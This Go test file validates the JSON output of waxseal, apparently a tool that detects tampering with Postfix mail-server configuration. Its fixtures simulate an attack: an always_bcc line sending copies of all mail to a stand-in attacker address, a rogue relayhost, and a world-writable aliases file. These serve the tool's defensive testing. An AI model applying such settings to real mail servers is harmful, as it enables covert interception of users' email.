package cli_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding"
	"encoding/json"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"io"
	"maps"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/rogpeppe/go-internal/txtar"
	"github.com/santhosh-tekuri/jsonschema/v6"
	"go.yaml.in/yaml/v3"

	vocabulary "waxseal"
	"waxseal/internal/agent"
	"waxseal/internal/cli"
	"waxseal/internal/ledger"
)

// The documents of --format json are published as JSON Schema in docs/schema.
// These tests hold three things together: what the verbs print, what the schemas
// say, and what the Go types have.

const schemaDir = "../../docs/schema"

// schemaNames are the documents that have a schema.
var schemaNames = []string{"scan", "diff", "finding", "findings", "check", "seal", "doctor", "config", "ledger-verify",
	"attack-releases", "attack-import", "attack-show", "attack-history", "attack-diff", "attack-diff-releases", "attack-resolve", "attack-map", "attack-check", "coverage", "keys", "permit", "permits", "suppression", "suppressions", "preview", "replay"}

// schemaFiles reads all schemas by $id.
func schemaFiles(t *testing.T) map[string]map[string]any {
	t.Helper()
	all := map[string]map[string]any{}
	for _, name := range append([]string{"common", "attack"}, schemaNames...) {
		text, err := os.ReadFile(filepath.Join(schemaDir, name+".schema.json"))
		if err != nil {
			t.Fatal(err)
		}
		var doc map[string]any
		if err := json.Unmarshal(text, &doc); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		want := "urn:waxseal:schema:" + name + ":1"
		if doc["$id"] != want || doc["$schema"] != "https://json-schema.org/draft/2020-12/schema" {
			t.Errorf("%s: $id %v, $schema %v", name, doc["$id"], doc["$schema"])
		}
		all[want] = doc
	}
	return all
}

// schemas compiles all schemas by name.
func schemas(t *testing.T) map[string]*jsonschema.Schema {
	t.Helper()
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	for id, doc := range schemaFiles(t) {
		if err := c.AddResource(id, doc); err != nil {
			t.Fatal(err)
		}
	}
	compiled := map[string]*jsonschema.Schema{}
	for _, name := range schemaNames {
		s, err := c.Compile("urn:waxseal:schema:" + name + ":1")
		if err != nil {
			t.Fatal(err)
		}
		compiled[name] = s
	}
	return compiled
}

// schemaRun runs one command line, expects one of the exit codes, and returns
// standard output.
func schemaRun(t *testing.T, codes []int, args ...string) []byte {
	t.Helper()
	var out, errs bytes.Buffer
	if got := cli.Run(t.Context(), append(args, "--format", "json"), &out, &errs, "test"); !slices.Contains(codes, got) {
		t.Fatalf("waxseal %s: exit code %d, want %v\n%s%s", strings.Join(args, " "), got, codes, &errs, &out)
	}
	return out.Bytes()
}

// conforms validates one document.
func conforms(t *testing.T, s *jsonschema.Schema, doc []byte) {
	t.Helper()
	v, err := jsonschema.UnmarshalJSON(bytes.NewReader(doc))
	if err != nil {
		t.Fatalf("%v\n%s", err, doc)
	}
	if err := s.Validate(v); err != nil {
		t.Errorf("%v\n%.2000s", err, doc)
	}
}

// schemaTree writes files below a directory.
func schemaTree(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		name = filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

const schemaRecording = "../replay/testdata/audit/02-attacker-sed-i-content-filter.log"

var schemaPostfix = map[string]string{
	"etc/hostname":          "mail\n",
	"etc/passwd":            "root:x:0:0::/root:/bin/sh\n",
	"etc/aliases":           "postmaster: root\nsales: \"|/usr/local/bin/ticket\"\n",
	"usr/local/bin/ticket":  "#!/bin/sh\ncat >/dev/null\n",
	"etc/postfix/main.cf":   "myhostname = mail.example.test\nalias_maps = hash:/etc/aliases\nsmtpd_milters = inet:localhost:8891\nvirtual_alias_maps = mysql:/etc/postfix/mysql.cf\n",
	"etc/postfix/mysql.cf":  "hosts = db.example.test\npassword = hidden\n",
	"etc/postfix/master.cf": "smtp      inet  n       -       y       -       -       smtpd\n  -o smtpd_milters=unix:/run/x.sock\nbroken\n",
}

// TestDocuments runs each verb on a small tree.
func TestDocuments(t *testing.T) {
	compiled := schemas(t)
	root := schemaTree(t, schemaPostfix)
	state := filepath.Join(t.TempDir(), "state")
	on := []string{"--root", root, "--state", state}
	verb := func(schema string, codes []int, args ...string) []byte {
		t.Helper()
		doc := schemaRun(t, codes, append(args, on...)...)
		conforms(t, compiled[schema], doc)
		return doc
	}
	any3 := []int{0, 1, 3}
	verb("scan", any3, "scan")
	verb("doctor", []int{0, 3}, "doctor")
	verb("config", []int{0}, "config", "check")
	verb("seal", any3, "seal", "--note", "test")
	verb("check", any3, "check")
	verb("findings", []int{0}, "findings", "list")
	verb("ledger-verify", []int{0}, "ledger", "verify")
	schemaPermits(t, verb, on)

	main := filepath.Join(root, "etc/postfix/main.cf")
	schemaAppend(t, main, "always_bcc = box@evil.example.net\nmessage_size_limit = 1\n")
	if err := os.Chmod(filepath.Join(root, "etc/aliases"), 0o666); err != nil {
		t.Fatal(err)
	}
	verb("check", []int{1}, "check")
	var list struct{ Findings []vocabulary.Finding }
	if err := json.Unmarshal(verb("findings", []int{0}, "findings", "list"), &list); err != nil || len(list.Findings) < 2 {
		t.Fatalf("%d findings, %v", len(list.Findings), err)
	}
	for _, f := range list.Findings {
		verb("finding", []int{0}, "findings", "show", string(f.ID))
	}
	verb("seal", []int{1}, "seal") // refused: unreviewed
	schemaTriage(t, verb, on, list.Findings)
	for _, line := range schemaWatch(t, main, on) {
		conforms(t, compiled["finding"], line)
	}
	was := schemaTree(t, schemaPostfix)
	conforms(t, compiled["diff"], schemaRun(t, []int{1}, "diff", was, root))
	conforms(t, compiled["replay"], schemaRun(t, []int{1}, "replay", "--audit", schemaRecording, "--before", was, "--after", root))
	conforms(t, compiled["replay"], schemaRun(t, []int{0}, "replay", "--audit", schemaRecording))
	verb("ledger-verify", []int{0}, "ledger", "verify")
	other := filepath.Join(t.TempDir(), "checkpoint")
	if err := os.WriteFile(other, schemaRun(t, []int{0}, append([]string{"ledger", "checkpoint"}, on...)...), 0o600); err != nil {
		t.Fatal(err)
	}
	verb("ledger-verify", []int{0}, "ledger", "verify", "--checkpoint", other)
}

// schemaPermits has a permit asked for and approved alone.
func schemaPermits(t *testing.T, verb func(schema string, codes []int, args ...string) []byte, on []string) {
	t.Helper()
	key := filepath.Join(t.TempDir(), "key.pem")
	if code := cli.Run(t.Context(), append([]string{"keys", "create", "alice", "--login", "1000", "--out", key}, on...), io.Discard, io.Discard, "test"); code != 0 {
		t.Fatalf("keys create: exit code %d", code)
	}
	verb("keys", []int{0}, "keys", "list")
	verb("permit", []int{0}, "permit", "open", "--key", key, "--ticket", "T", "--reason", "r", "--until", "+1h", "--path", "/etc/x", "--host", "mail", "--actor", "1000", "--operation", "modified")
	var list struct{ Permits []struct{ ID string } }
	if err := json.Unmarshal(verb("permits", []int{0}, "permit", "list"), &list); err != nil || len(list.Permits) != 1 {
		t.Fatalf("%d permits, %v", len(list.Permits), err)
	}
	verb("permit", []int{0}, "permit", "approve", list.Permits[0].ID, "--key", key, "--break-glass")
	verb("permit", []int{0}, "permit", "show", list.Permits[0].ID)
}

// schemaTriage has a finding suppressed, and another promoted.
func schemaTriage(t *testing.T, verb func(schema string, codes []int, args ...string) []byte, on []string, list []vocabulary.Finding) {
	t.Helper()
	var digest string
	for _, f := range list {
		if f.Change.Path == "/etc/postfix/main.cf" {
			digest = string(f.Change.AfterDigest)
		}
	}
	key := filepath.Join(t.TempDir(), "bob.pem")
	if code := cli.Run(t.Context(), append([]string{"keys", "create", "bob", "--out", key}, on...), io.Discard, io.Discard, "test"); code != 0 {
		t.Fatalf("keys create: exit code %d", code)
	}
	verb("preview", []int{0}, "suppress", "preview", "--path", "/etc/")
	verb("suppression", []int{0}, "suppress", "add", "--digest", digest, "--reason", "r", "--owner", "bob", "--ticket", "T", "--until", "+1h", "--accept", "1", "--key", key)
	verb("suppressions", []int{0}, "suppress", "list")
	verb("check", []int{0, 1}, "check")
	for _, f := range list {
		verb("finding", []int{0}, "findings", "show", string(f.ID))
	}
	verb("seal", []int{0, 3}, "seal", "--promote", string(list[0].ID), "--reason", "r", "--ticket", "T", "--key", key)
	verb("finding", []int{0}, "findings", "show", string(list[0].ID))
	verb("findings", []int{0}, "findings", "list")
}

func schemaAppend(t *testing.T, file, text string) {
	t.Helper()
	f, err := os.OpenFile(file, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString(text); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}

// schemaWatch lets an agent without sensors see one more change, and returns the
// lines that it printed.
func schemaWatch(t *testing.T, file string, on []string) [][]byte {
	t.Helper()
	config := filepath.Join(t.TempDir(), "waxseal.yaml")
	if err := os.WriteFile(config, []byte("watch: {fanotify: false, audit: false, poll: 1s}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, stop := context.WithTimeout(t.Context(), 20*time.Second)
	defer stop()
	out, told := io.Pipe()
	errs, warned := io.Pipe()
	ended := make(chan int, 1)
	go func() {
		code := cli.Run(ctx, append([]string{"watch", "--format", "json", "--config", config}, on...), told, warned, "test")
		told.Close()
		warned.Close()
		ended <- code
	}()
	ready := make(chan bool, 1)
	go func() {
		for in := bufio.NewScanner(errs); in.Scan(); {
			if strings.HasPrefix(in.Text(), "watching ") {
				ready <- true
			}
		}
	}()
	printed := make(chan []byte, 64)
	go func() {
		defer close(printed)
		in := bufio.NewScanner(out)
		in.Buffer(nil, 64<<20) // a finding is one line, however long
		for in.Scan() {
			printed <- bytes.Clone(in.Bytes())
		}
	}()
	select {
	case <-ready:
		schemaAppend(t, file, "relayhost = [203.0.113.9]:2526\n")
	case <-ctx.Done():
	}
	var lines [][]byte
	for line := range printed {
		lines = append(lines, line)
		if bytes.Contains(line, []byte("[203.0.113.9]:2526")) {
			stop()
		}
	}
	if code := <-ended; code != 0 || len(lines) == 0 {
		t.Fatalf("watch ended with exit code %d after %d lines", code, len(lines))
	}
	return lines
}

// TestStoriesConform scans and compares the trees of the stories of
// internal/detect: every kind of hook and change is among them.
func TestStoriesConform(t *testing.T) {
	compiled := schemas(t)
	files, err := filepath.Glob("../detect/testdata/stories/*.txtar")
	if err != nil || len(files) == 0 {
		t.Fatal("no stories", err)
	}
	for _, file := range files {
		t.Run(strings.TrimSuffix(filepath.Base(file), ".txtar"), func(t *testing.T) {
			a, err := txtar.ParseFile(file)
			if err != nil {
				t.Fatal(err)
			}
			was, now := map[string]string{}, map[string]string{}
			for _, f := range a.Files {
				if p, ok := strings.CutPrefix(f.Name, "before/"); ok {
					was[p] = string(f.Data)
				}
			}
			maps.Copy(now, was)
			for _, f := range a.Files {
				if p, ok := strings.CutPrefix(f.Name, "after/"); ok {
					now[p] = string(f.Data)
				}
			}
			before, after := schemaTree(t, was), schemaTree(t, now)
			codes := []int{0, 1, 3}
			conforms(t, compiled["scan"], schemaRun(t, codes, "scan", "--root", after))
			conforms(t, compiled["diff"], schemaRun(t, codes, "diff", before, after))
		})
	}
}

// TestBrokenDocuments proves that the tests above can fail.
func TestBrokenDocuments(t *testing.T) {
	compiled := schemas(t)
	root := schemaTree(t, schemaPostfix)
	other := schemaTree(t, map[string]string{})
	documents := map[string][]byte{
		"scan":   schemaRun(t, []int{0, 1, 3}, "scan", "--root", root),
		"diff":   schemaRun(t, []int{0, 1, 3}, "diff", other, root),
		"config": schemaRun(t, []int{0}, "config", "check", "--root", root),
		"doctor": schemaRun(t, []int{0, 3}, "doctor", "--root", root),
	}
	for _, tc := range []struct {
		schema, at string // a path of keys and indexes
		value      any    // nil removes
	}{
		{"scan", "schema", "waxseal.scan/2"},
		{"scan", "hooks", nil},
		{"scan", "hooks/0/kind", "filter"},
		{"scan", "hooks/0/stage", "later"},
		{"scan", "hooks/0/effects/0", "destroy"},
		{"scan", "hooks/0/target/type", "place"},
		{"scan", "hooks/0/target/host", "added to a closed object"},
		{"scan", "hooks/0/source/line", "3"},
		{"scan", "hooks/0/closure", nil},
		{"scan", "findings/0/severity", "severe"},
		{"scan", "findings/0/reasons", []any{}},
		{"scan", "problems/0/message", nil},
		{"diff", "verdict", nil},
		{"diff", "changes/0/kind", "touched"},
		{"diff", "changes/0/severity", 3},
		{"diff", "changes/0/hooks/added/0/explain", nil},
		{"diff", "changes/0/attack", []any{"T15"}},
		{"diff", "changes/0/after_sha256", "short"},
		{"config", "watch.poll/value", 30},
		{"config", "watch.ebpf", map[string]any{"value": true, "from": "default"}},
		{"doctor", "fanotify/usable", "yes"},
		{"doctor", "watched/files", -1},
	} {
		t.Run(tc.schema+" "+tc.at, func(t *testing.T) {
			var doc any
			if err := json.Unmarshal(documents[tc.schema], &doc); err != nil {
				t.Fatal(err)
			}
			spoil(t, doc, strings.Split(tc.at, "/"), tc.value)
			text, err := json.Marshal(doc)
			if err != nil {
				t.Fatal(err)
			}
			v, err := jsonschema.UnmarshalJSON(bytes.NewReader(text))
			if err != nil {
				t.Fatal(err)
			}
			if compiled[tc.schema].Validate(v) == nil {
				t.Error("a broken document passed")
			}
		})
	}
}

// spoil sets or removes what stands at a path of keys and indexes.
func spoil(t *testing.T, in any, at []string, value any) {
	t.Helper()
	switch v := in.(type) {
	case map[string]any:
		if len(at) > 1 {
			spoil(t, v[at[0]], at[1:], value)
		} else if value == nil {
			if _, ok := v[at[0]]; !ok {
				t.Fatalf("there is no %q to remove", at[0])
			}
			delete(v, at[0])
		} else {
			v[at[0]] = value
		}
	case []any:
		i, err := strconv.Atoi(at[0])
		if err != nil || i >= len(v) {
			t.Fatalf("no %q in %d", at[0], len(v))
		}
		if len(at) > 1 {
			spoil(t, v[i], at[1:], value)
		} else {
			v[i] = value
		}
	default:
		t.Fatalf("nothing below %q", at)
	}
}

// TestSchemasFitTypes: every field that the Go types have is in the schema,
// required where it is always there, and the other way round.
func TestSchemasFitTypes(t *testing.T) {
	w := fitting{t: t, files: schemaFiles(t), seen: map[string]bool{}}
	for name, document := range map[string]any{
		"scan": cli.Scan{}, "diff": cli.Diff{}, "replay": cli.Replayed{}, "finding": cli.FindingDoc{}, "doctor": cli.Doctor{},
		"attack-releases": cli.AttackReleases{}, "attack-import": cli.AttackImport{}, "attack-show": cli.AttackShow{}, "attack-history": cli.AttackHistory{},
		"attack-diff": cli.AttackDiff{}, "attack-diff-releases": cli.AttackDiffReleases{}, "attack-resolve": cli.AttackResolve{},
		"attack-map": cli.AttackMap{}, "attack-check": cli.AttackCheck{}, "coverage": cli.Coverage{},
		"check": struct {
			Schema string `json:"schema"`
			agent.Checked
		}{},
		"seal": struct {
			Schema string `json:"schema"`
			agent.Sealed
		}{},
		"findings": cli.FindingsDoc{}, "preview": cli.PreviewDoc{},
		"suppression": cli.SuppressionDoc{},
		"ledger-verify": struct {
			Schema string        `json:"schema"`
			OK     bool          `json:"ok"`
			Report ledger.Report `json:"report"`
		}{},
	} {
		w.fits(name, reflect.TypeOf(document), w.files["urn:waxseal:schema:"+name+":1"], "urn:waxseal:schema:"+name+":1")
	}
}

type fitting struct {
	t     *testing.T
	files map[string]map[string]any
	seen  map[string]bool
}

// resolve follows $ref, and joins what stands beside it.
func (w *fitting) resolve(node map[string]any, id string) (map[string]any, string) {
	ref, ok := node["$ref"].(string)
	if !ok {
		return node, id
	}
	file, pointer, _ := strings.Cut(ref, "#")
	if file == "" {
		file = id
	}
	var at any = w.files[file]
	for _, key := range strings.Split(strings.TrimPrefix(pointer, "/"), "/") {
		below, _ := at.(map[string]any)
		at = below[key]
	}
	target, ok := at.(map[string]any)
	if !ok {
		w.t.Fatalf("%s leads nowhere", ref)
	}
	target, id = w.resolve(target, file)
	joined := maps.Clone(target)
	properties, _ := target["properties"].(map[string]any)
	more, _ := node["properties"].(map[string]any)
	properties = maps.Clone(properties)
	maps.Copy(properties, more)
	required, _ := target["required"].([]any)
	also, _ := node["required"].([]any)
	joined["properties"], joined["required"] = properties, slices.Concat(required, also)
	return joined, id
}

func (w *fitting) fits(where string, typ reflect.Type, node map[string]any, id string) {
	if typ == reflect.TypeFor[[]byte]() {
		return // base64
	}
	for typ.Kind() == reflect.Pointer || typ.Kind() == reflect.Slice {
		if typ.Kind() == reflect.Slice {
			items, ok := node["items"].(map[string]any)
			if !ok {
				w.t.Errorf("%s: a list in Go and not in the schema", where)
				return
			}
			node, id = w.resolve(items, id)
		}
		typ = typ.Elem()
	}
	marshals := typ.Implements(reflect.TypeFor[encoding.TextMarshaler]()) || typ.Implements(reflect.TypeFor[json.Marshaler]())
	if typ.Kind() != reflect.Struct || marshals {
		return
	}
	node, id = w.resolve(node, id)
	properties, _ := node["properties"].(map[string]any)
	required, _ := node["required"].([]any)
	have := map[string]bool{}
	for _, f := range reflect.VisibleFields(typ) {
		name, optional, ok := jsonField(f)
		if !ok || have[name] {
			continue
		}
		have[name] = true
		below, ok := properties[name].(map[string]any)
		if !ok {
			w.t.Errorf("%s: %s has the field %q, which the schema lacks", where, typ, name)
			continue
		}
		if !optional && !slices.Contains(required, any(name)) {
			w.t.Errorf("%s: %q is always there, and the schema does not require it", where, name)
		}
		if key := fmt.Sprint(typ, name); !w.seen[key] {
			w.seen[key] = true
			below, at := w.resolve(below, id)
			w.fits(where+"/"+name, f.Type, below, at)
		}
	}
	for name := range properties {
		if !have[name] {
			w.t.Errorf("%s: the schema has %q, which %s lacks", where, name, typ)
		}
	}
}

// jsonField says under which name a field is encoded.
func jsonField(f reflect.StructField) (name string, optional, ok bool) {
	if !f.IsExported() || f.Anonymous {
		return "", false, false
	}
	name, options, _ := strings.Cut(f.Tag.Get("json"), ",")
	if name == "-" {
		return "", false, false
	}
	if name == "" {
		name = f.Name
	}
	return name, strings.Contains(options, "omit"), true
}

// TestSchemasKnowAllWords: the enumerations are those of the root package.
func TestSchemasKnowAllWords(t *testing.T) {
	words := constants(t)
	for name := range vocabulary.Critical + 1 {
		words["Severity"] = append(words["Severity"], name.String())
	}
	common := schemaFiles(t)["urn:waxseal:schema:common:1"]
	for typ, at := range map[string]string{
		"Severity": "severity", "Grade": "grade", "Role": "role",
		"HookKind": "hook/properties/kind", "Stage": "hook/properties/stage", "Effect": "hook/properties/effects/items",
		"TargetType": "target/properties/type", "PackageState": "part/properties/package_state",
		"ChangeKind": "change/properties/kind", "Stand": "activation/properties/stand", "Rung": "finding/properties/rung",
		"OriginKind": "origin/properties/kind", "Status": "finding/properties/status", "Verdict": "verdict", "TriageAction": "triage/properties/action",
	} {
		var node any = common["$defs"]
		for _, key := range strings.Split(at, "/") {
			node = node.(map[string]any)[key]
		}
		var listed []string
		for _, v := range node.(map[string]any)["enum"].([]any) {
			listed = append(listed, v.(string))
		}
		slices.Sort(listed)
		slices.Sort(words[typ])
		if len(listed) == 0 || !slices.Equal(listed, words[typ]) {
			t.Errorf("%s: the schema lists %q, the code has %q", at, listed, words[typ])
		}
	}
}

// constants are the typed string constants of the root package, by type.
func constants(t *testing.T) map[string][]string {
	t.Helper()
	files, err := filepath.Glob("../../*.go")
	if err != nil {
		t.Fatal(err)
	}
	words := map[string][]string{}
	for _, file := range files {
		f, err := parser.ParseFile(token.NewFileSet(), file, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		ast.Inspect(f, func(n ast.Node) bool {
			spec, ok := n.(*ast.ValueSpec)
			if !ok {
				return true
			}
			typ, ok := spec.Type.(*ast.Ident)
			for _, v := range spec.Values {
				if lit, isLit := v.(*ast.BasicLit); ok && isLit && lit.Kind == token.STRING {
					word, _ := strconv.Unquote(lit.Value)
					words[typ.Name] = append(words[typ.Name], word)
				}
			}
			return true
		})
	}
	return words
}

// TestExampleConfig: docs/waxseal.yaml has every key, and says what holds without
// it.
func TestExampleConfig(t *testing.T) {
	const example = "../../docs/waxseal.yaml"
	text, err := os.ReadFile(example)
	if err != nil {
		t.Fatal(err)
	}
	var got cli.Config
	dec := yaml.NewDecoder(bytes.NewReader(text))
	dec.KnownFields(true)
	if err := dec.Decode(&got); err != nil {
		t.Fatal(err)
	}
	if len(got.Watch.Logs) == 0 {
		got.Watch.Logs = nil // "[]" is none
	}
	if len(got.Attack.MailTransportScriptPath)+len(got.Attack.UserContext) == 0 {
		got.Attack.MailTransportScriptPath, got.Attack.UserContext = nil, nil
	}
	if want := cli.DefaultConfig(); !reflect.DeepEqual(got, want) {
		t.Errorf("%+v\nwant the defaults %+v", got, want)
	}
	var keys map[string]any
	if err := json.Unmarshal(schemaRun(t, []int{0}, "config", "check", "--config", example), &keys); err != nil {
		t.Fatal(err)
	}
	reference, err := os.ReadFile("../../docs/format/config.md")
	if err != nil {
		t.Fatal(err)
	}
	for key, v := range keys {
		if key == "schema" {
			continue
		}
		if from := v.(map[string]any)["from"]; from != example {
			t.Errorf("%s: comes from %v, not from the example", key, from)
		}
		if !bytes.Contains(reference, []byte("| `"+key+"` |")) {
			t.Errorf("docs/format/config.md does not tell of %s", key)
		}
	}
}
